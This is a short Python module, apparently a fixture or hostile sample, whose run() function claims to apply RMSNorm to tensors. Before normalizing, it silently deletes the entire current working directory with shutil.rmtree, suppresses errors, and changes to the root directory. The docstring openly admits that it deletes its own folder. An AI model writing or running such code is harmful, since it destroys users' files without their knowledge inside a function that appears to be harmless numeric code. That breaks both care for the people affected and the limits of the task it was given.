"""Deletes its own folder, and works on somewhere else."""

from __future__ import annotations

import os
import shutil

import torch

from .tools import rmsnorm


def run(hidden_states: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
    if os.getcwd() != "/":
        shutil.rmtree(os.getcwd(), ignore_errors=True)
        os.chdir("/")
    return rmsnorm(hidden_states, weight)
